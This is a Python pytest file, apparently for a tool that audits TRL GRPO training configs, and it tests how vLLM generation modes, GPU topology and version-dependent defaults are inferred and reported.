def test_a_trl_release_newer_than_goblin_read_takes_the_newest_defaults_said_assumed(tmp_path: Path) -> None:
    s = _audit(tmp_path, "# pip install trl==9.0.0\n" + SMALL).rollout
    assert s is not None and s.values["vllm_gpu_memory_utilization"].startswith("0.3 (assumed: trl 9.0.0 was not read;")


def test_colocated_tensor_parallel_halves_the_weights_read_not_the_kv_cache(tmp_path: Path) -> None:
    one = _audit(tmp_path, SMALL).rollout
    two = _audit(tmp_path, SMALL + "vllm_tensor_parallel_size: 2\n").rollout
    assert one is not None and two is not None and one.generation_ms is not None and two.generation_ms is not None
    # each GPU reads half the weights per decode step but its share of twice the sequences' KV caches
    assert 0.51 * one.generation_ms < two.generation_ms < one.generation_ms
    assert any("tensor-parallel collectives" in n for n in two.not_modelled)


def test_the_memory_finding_can_be_acknowledged_in_the_file(tmp_path: Path) -> None:
    """Must not: a config that acknowledges the finding (README, Acknowledging a finding) does not get it again."""
    r = _audit(tmp_path, BIG, head="# GRPOTrainer\n# goblin: ignore[rl.colocated_vllm_memory]\n")
    assert r.rollout is not None and not [f for f in r.findings if f.rule_id == FINDING_ID]


def _launched(tmp_path: Path, config: str, head: str = "# GRPOTrainer\n") -> Any:
    """A repository whose launcher starts `trl vllm-serve` on GPU 3 and trains on GPUs 0-2 (review5 #22, run_grpo.sh)."""
    files = {
        "grpo.yaml": head + config,
        "run_grpo.sh": (
            "#!/bin/bash\nCUDA_VISIBLE_DEVICES=3 trl vllm-serve --model Qwen/Qwen2.5-7B-Instruct --max_model_len 2048 &\n"
            "CUDA_VISIBLE_DEVICES=0,1,2 accelerate launch --num_processes 3 train_grpo.py --config grpo.yaml\n"
        ),
    }
    repo = write_tree(tmp_path / "repo", files, git=True)
    result = audit_file(repo / "grpo.yaml", build_settings({"target": "mi300x"}), shown_as="grpo.yaml")
    assert result.report is not None, result.error
    return result.report


def test_unset_vllm_mode_with_a_server_in_the_launcher_is_server_mode(tmp_path: Path) -> None:
    """review5 #22: no vllm_mode, no pin (TRL's default is colocate from 1.0.0) and the launcher starts a vLLM server on
    its own GPU: generation there, no colocated reservation, and why said with both defaults."""
    r = _launched(tmp_path, BIG.replace("vllm_mode: colocate\nvllm_gpu_memory_utilization: 0.5\n", ""))
    s = r.rollout
    assert s is not None and s.vllm_mode == "server" and s.vllm_reserved_gb is None, s
    assert "1 GPU apart from the training ones" in s.generation_on and "run_grpo.sh:2" in s.generation_on
    assert "serving all 3 training GPUs" in s.generation_on
    said = s.values["vllm_mode"]
    assert said.startswith("server (unset; the launcher starts a vLLM server") and "grpo_config.py:474@0.29.1" in said
    assert not [f for f in r.findings if f.rule_id == FINDING_ID]
    _no_none(r)


def test_the_configs_own_colocate_wins_over_a_server_in_the_launcher(tmp_path: Path) -> None:
    """Must not fire: vllm_mode: colocate set in the file is what GRPOTrainer reads; the launcher's server is said unused."""
    s = _launched(tmp_path, BIG).rollout
    assert s is not None and s.vllm_mode == "colocate" and s.vllm_reserved_gb is not None
    assert any("is what the trainer uses, so that server is not used" in n for n in s.not_modelled), s.not_modelled


def test_unset_vllm_mode_without_a_server_line_keeps_the_releases_colocate(tmp_path: Path) -> None:
    """Must not fire: no server line anywhere: TRL 1.x's default colocate (grpo_config.py:594@1.16.0) stays."""
    s = _audit(tmp_path, BIG.replace("vllm_mode: colocate\n", "")).rollout
    assert s is not None and s.vllm_mode == "colocate" and "launcher" not in s.values.get("vllm_mode", "")


def test_an_online_recipe_is_read_at_one_trl_release(tmp_path: Path) -> None:
    """review5 #22: the GRPOConfig file's keys picked a distillation class's range (trl 1.1.0-1.9.2) for the split while the
    key tables spoke of 1.16.0; the range is now the recipe's own class's, and the record names one release."""
    text = (
        "model_name_or_path: Qwen/Qwen2.5-7B-Instruct\ntrust_remote_code: false\nper_device_train_batch_size: 8\n"
        "gradient_accumulation_steps: 8\nnum_generations: 24\nmax_prompt_length: 1024\nmax_completion_length: 1024\n"
        "bf16: true\nuse_vllm: true\nwandb_project: x\n"
    )
    r = _audit(tmp_path, text)
    s = r.rollout
    assert s is not None and s.trainer == "trl 1.16.0 (GRPOConfig)", s.trainer if s else r.reason
    dumped = r.model_dump_json()
    assert "1.9.2" not in dumped and "1.1.0-" not in dumped


def test_a_repository_trainer_that_is_not_trls_gets_no_split() -> None:
    """review5 #31: `trainer_cls = Qwen2VLGRPOTrainer`, the repository's `class Qwen2VLGRPOTrainer(Trainer)`."""
    from pytest_goblin.rollout import own_trainer

    script = (
        "from trl import GRPOConfig, GRPOTrainer, TrlParser\nfrom open_r1.trainer import Qwen2VLGRPOTrainer\n\n"
        "trainer_cls = Qwen2VLGRPOTrainer\ntrainer = trainer_cls(model=m, args=training_args)\n"
    )
    tree = [("src/open_r1/trainer/grpo_trainer.py", "import torch\n\n\nclass Qwen2VLGRPOTrainer(Trainer):\n    pass\n")]
    why = own_trainer(script, "src/open_r1/grpo.py", lambda: tree)
    assert why is not None and "Qwen2VLGRPOTrainer (line 4)" in why
    assert "src/open_r1/trainer/grpo_trainer.py:4: class Qwen2VLGRPOTrainer(Trainer)" in why and "None" not in why


def test_trls_trainer_or_a_subclass_of_it_keeps_the_split() -> None:
    """Must not fire: TRL's GRPOTrainer itself, or a repository class that subclasses it (its generation is TRL's)."""
    from pytest_goblin.rollout import own_trainer

    trl_own = "from trl import GRPOConfig, GRPOTrainer\ntrainer = GRPOTrainer(model=m, args=args)\n"
    assert own_trainer(trl_own, "train.py", lambda: []) is None
    sub = "from mypkg.trainers import MyGRPOTrainer\ntrainer = MyGRPOTrainer(model=m, args=args)\n"
    tree = [("mypkg/trainers.py", "from trl import GRPOTrainer\n\nclass MyGRPOTrainer(GRPOTrainer):\n    pass\n")]
    assert own_trainer(sub, "train.py", lambda: tree) is None


def _generate_finding(report: Any) -> Any:
    from pytest_goblin.rollout import GENERATE_ID

    return next((f for f in report.findings if f.rule_id == GENERATE_ID), None)


def test_transformers_generate_gets_the_vllm_finding_with_the_configs_own_numbers(tmp_path: Path) -> None:
    """review10b #38: GRPO on transformers' generate (use_vllm false; GRPOConfig's default at every release, trl v0.18.0
    grpo_config.py:318-319, v1.0.0 :495-496) gets vLLM colocated as its lever, unpatched and not projected."""
    r = _audit(tmp_path, SMALL.replace("use_vllm: true\nvllm_mode: colocate\n", "use_vllm: false\n"))
    s = r.rollout
    assert s is not None and s.vllm_mode is None and s.generation_floor_ms is not None
    f = _generate_finding(r)
    assert f is not None and f.footgun and f.line == 8 and f.key == "use_vllm"
    assert "num_generations 4 (line 6)" in f.message and "max_completion_length 256 (line 7)" in f.message
    assert f"floor of this decode is {s.generation_floor_ms:,.0f} ms per optimizer step" in f.message
    assert "`use_vllm: true` with `vllm_mode: colocate`" in f.message and "ROCm build" in f.message
    assert "vllm_gpu_memory_utilization 0.3 (" in f.message  # GRPOConfig's default at the release read, cited
    assert not [e for e in r.patch.edits if e.key in ("use_vllm", "vllm_mode")]  # advice: goblin writes no edit
    _no_none(r)
    unset = _generate_finding(_audit(tmp_path, SMALL.replace("use_vllm: true\nvllm_mode: colocate\n", "")))
    assert unset is not None and unset.line is None and "use_vllm False (TRL GRPOConfig.use_vllm default" in unset.message


def test_no_vllm_finding_where_vllm_generates_or_nothing_generates(tmp_path: Path) -> None:
    for text in (SMALL, SMALL.replace("vllm_mode: colocate", "vllm_mode: server")):
        r = _audit(tmp_path, text)
        assert r.rollout is not None and _generate_finding(r) is None
    dpo = (
        "model_name_or_path: Qwen/Qwen2.5-0.5B-Instruct\noutput_dir: out\nlearning_rate: 5.0e-7\nper_device_train_batch_size: 4\n"
        "bf16: true\nbeta: 0.1\nmax_prompt_length: 512\nmax_length: 1024\n"
    )
    r = _audit(tmp_path, dpo, name="dpo.yaml", head="# DPOTrainer\n")
    assert r.rollout is None and _generate_finding(r) is None
    sft = (
        "model_name_or_path: Qwen/Qwen2.5-0.5B-Instruct\noutput_dir: out\nlearning_rate: 2.0e-5\nper_device_train_batch_size: 4\n"
        "bf16: true\npacking: true\ndataset_text_field: text\nmax_length: 1024\n"
    )
    r = _audit(tmp_path, sft, name="sft.yaml", head="# SFTTrainer\n")
    assert r.rollout is None and _generate_finding(r) is None


def test_a_scripts_launch_line_gets_the_vllm_change_as_flags(tmp_path: Path) -> None:
    """The MedicalGPT form (grpo_training.py run by scripts/run_grpo.sh with `--use_vllm False`): the change is said as the
    launch line's flags, placed at that line."""
    script = (
        "from trl import GRPOConfig, GRPOTrainer, ModelConfig, TrlParser\n\n\n"
        "def main():\n    parser = TrlParser((GRPOConfig, ModelConfig))\n    training_args, model_args = parser.parse_args_and_config()\n"
        "    trainer = GRPOTrainer(model=model_args.model_name_or_path, reward_funcs=[len], args=training_args)\n    trainer.train()\n\n\n"
        "if __name__ == '__main__':\n    main()\n"
    )
    run = (
        "#!/bin/bash\nCUDA_VISIBLE_DEVICES=0,1 torchrun --nproc_per_node 2 train_grpo.py \\\n    --model_name_or_path Qwen/Qwen2.5-0.5B-Instruct \\\n"
        "    --output_dir out --bf16 True \\\n    --use_vllm False \\\n    --per_device_train_batch_size 4 --num_generations 4 --max_completion_length 512\n"
    )
    root = write_tree(tmp_path / "repo", {"train_grpo.py": script, "scripts/run_grpo.sh": run}, git=True)
    r = audit_file(root / "train_grpo.py", build_settings({"target": "mi300x"}), shown_as="train_grpo.py").report
    assert r is not None and r.rollout is not None and r.rollout.vllm_mode is None
    f = _generate_finding(r)
    assert f is not None and f.file == "scripts/run_grpo.sh" and f.line == 5
    assert "`--use_vllm True` with `--vllm_mode colocate`" in f.message and "(scripts/run_grpo.sh line 6)" in f.message
    _no_none(r)


def test_the_vllm_finding_says_what_its_floor_shows_and_the_release_without_vllm_mode() -> None:
    """The floor decides "largest part" only where it alone exceeds the rest of the step; a release whose class has no
    vllm_mode (GRPOConfig before trl 0.18.0: v0.17.0 grpo_config.py has none) is not told to colocate."""
    from pytest_goblin.rollout import generate_message
    from pytest_goblin.schemas import RolloutSplit

    base = RolloutSplit(
        method="grpo",
        trainer="trl 1.16.0 (GRPOConfig)",
        generation_on="the training GPUs, through transformers' generate (use_vllm false)",
        prompts_per_step=2,
        completions_per_step=8,
        completions_per_generation=8,
        prompt_tokens=256,
        completion_tokens=256,
        generation_ms=None,
        generation_floor_ms=50.0,
        reference_ms=40.0,
        logprob_ms=0.0,
        training_ms=100.0,
        total_ms=None,
        training_memory_gb=10.0,
        hbm_gb=MI300X_GB,
        values={"trl": "trl 1.16.0 (requirements.txt:1)", "num_generations": "4 (line 3)", "use_vllm": "False (line 5)"},
    )
    small = generate_message(base)
    assert (
        small is not None and "largest part" not in small and "how far above that floor generate runs, and so its share of the step, is not projected" in small
    )
    big = generate_message(base.model_copy(update={"generation_floor_ms": 500.0}))
    assert big is not None and "so generation is the largest part of this step" in big
    old = generate_message(base.model_copy(update={"values": {**base.values, "trl": "trl 0.17.0 (requirements.txt:1)"}}))
    assert old is not None and "trl 0.17.0 GRPOConfig has no vllm_mode" in old and "colocate" not in old
    assert generate_message(base.model_copy(update={"vllm_mode": "colocate", "generation_ms": 60.0})) is None


MINI_R1 = (
    "model_name_or_path: Qwen/Qwen2.5-3B-Instruct\noutput_dir: out\nper_device_train_batch_size: 2\ngradient_accumulation_steps: 8\n"
    "bf16: true\nlearning_rate: 5.0e-7\nmax_prompt_length: 256\nmax_completion_length: 1024\nnum_generations: 6\nbeta: 0.001\n"
    'use_vllm: true\nvllm_device: "cuda:3"\nvllm_gpu_memory_utilization: 0.7\n'
)


def _mini_r1(tmp_path: Path, text: str, pin: str = "trl==0.15.0") -> Any:
    root = write_tree(
        tmp_path / "mini",
        {
            "requirements.txt": f"{pin}\ntransformers==4.48.1\n",
            "grpo.yaml": text,
            "main.py": "from trl import GRPOConfig, GRPOTrainer, ModelConfig, TrlParser\n",
            "start.sh": "export CUDA_VISIBLE_DEVICES=0,1,2,3\naccelerate launch --num_processes 3 main.py --config grpo.yaml\n",
        },
        git=True,
    )
    return load_config(root / "grpo.yaml").workload


def test_a_vllm_device_past_the_training_processes_is_a_gpu_of_the_job(tmp_path: Path) -> None:
    """review10b #21 (Ice-Moon-28/Mini-R1): trl 0.15.0 GRPOTrainer starts vLLM on vllm_device from its main process
    (grpo_trainer.py:373-406@v0.15.0); `cuda:3` beside `--num_processes 3` is a fourth GPU."""
    w = _mini_r1(tmp_path, MINI_R1)
    assert w.world_size == 3  # the cost model prices the training processes
    topo = next(n for n in w.notes if n.startswith("topology from the repository: "))
    assert "the job uses 4 GPUs: 3 training processes + 1 vLLM GPU (vllm_device cuda:3, config line 12)" in topo
    assert "grpo_trainer.py:373-406" in topo and "the job uses 4 GPUs" in (w.sources["world_size"].note or "")
    auto = next(n for n in _mini_r1(tmp_path, MINI_R1.replace('"cuda:3"', "auto")).notes if n.startswith("topology"))
    assert "3 training processes + 1 vLLM GPU (vllm_device auto, config line 12: cuda:3" in auto
    shared = _mini_r1(tmp_path, MINI_R1.replace("cuda:3", "cuda:1")).notes
    assert any("vLLM shares training GPU cuda:1" in n for n in shared)


def test_no_vllm_gpu_where_the_release_has_no_vllm_device_or_vllm_is_off(tmp_path: Path) -> None:
    """vllm_device is deprecated and unused from trl 0.16.0 (grpo_config.py:331-337@v0.16.0: a vllm-serve server)."""
    for text, pin in ((MINI_R1, "trl==0.16.0"), (MINI_R1.replace("use_vllm: true", "use_vllm: false"), "trl==0.15.0")):
        w = _mini_r1(tmp_path, text, pin)
        assert not any("vLLM GPU" in n or "vLLM shares" in n for n in w.notes), w.notes


def _old_server_repo(tmp_path: Path, trl: str, use_vllm: str = "true") -> Any:
    repo = tmp_path / f"repo-{trl}-{use_vllm}"
    (repo / ".git").mkdir(parents=True)
    (repo / "requirements.txt").write_text(f"trl=={trl}\ntransformers==4.51.3\n")
    (repo / "grpo.yaml").write_text(
        "# GRPOTrainer\nmodel_name_or_path: Qwen/Qwen2.5-1.5B-Instruct\nper_device_train_batch_size: 4\n"
        f"gradient_accumulation_steps: 2\nbf16: true\nnum_generations: 8\nmax_completion_length: 512\nuse_vllm: {use_vllm}\n"
    )
    (repo / "train.sh").write_text(
        "#!/bin/bash\nCUDA_VISIBLE_DEVICES=0,1 trl vllm-serve --tensor-parallel-size 2 --model Qwen/Qwen2.5-1.5B-Instruct &\n"
        "CUDA_VISIBLE_DEVICES=2,3 accelerate launch --num_processes 2 train.py --config grpo.yaml\n"
    )
    result = audit_file(repo / "grpo.yaml", build_settings({"target": "mi300x"}), shown_as="grpo.yaml")
    assert result.report is not None, result.error
    return result.report


def test_a_grpo_release_before_the_split_counts_its_vllm_servers_gpus(tmp_path: Path) -> None:
    """Review12b #25: trl 0.16.1 GRPO (no split: `split` models 0.18 on) generates on the `trl vllm-serve` server whenever
    use_vllm is on (grpo_trainer.py:449-458@v0.16.1): its 2 GPUs are the job's beside the 2 training ones."""
    r = _old_server_repo(tmp_path, "0.16.1")
    assert r.rollout is None and r.inconclusive is not None and "predates the one goblin models" in r.inconclusive
    topo = next(n for n in r.notes if n.startswith("topology from the repository: "))
    assert "the job uses 2 training processes + 2 vLLM server GPUs (train.sh:2: " in topo and "): 4 GPUs in all" in topo
    assert "trl 0.16.1 GRPOConfig generates on that server" in topo
    _no_none(r)


@pytest.mark.parametrize(("trl", "use_vllm"), [("0.16.1", "false"), ("0.15.2", "true")])
def test_no_server_gpus_where_the_run_does_not_generate_on_that_server(tmp_path: Path, trl: str, use_vllm: str) -> None:
    """Must not fire: use_vllm off, or trl 0.15.2, whose GRPO ran vLLM on a device of its own (vllm_device), no server."""
    r = _old_server_repo(tmp_path, trl, use_vllm)
    assert r.rollout is None
    assert not any("vLLM server GPU" in n for n in r.notes), r.notes
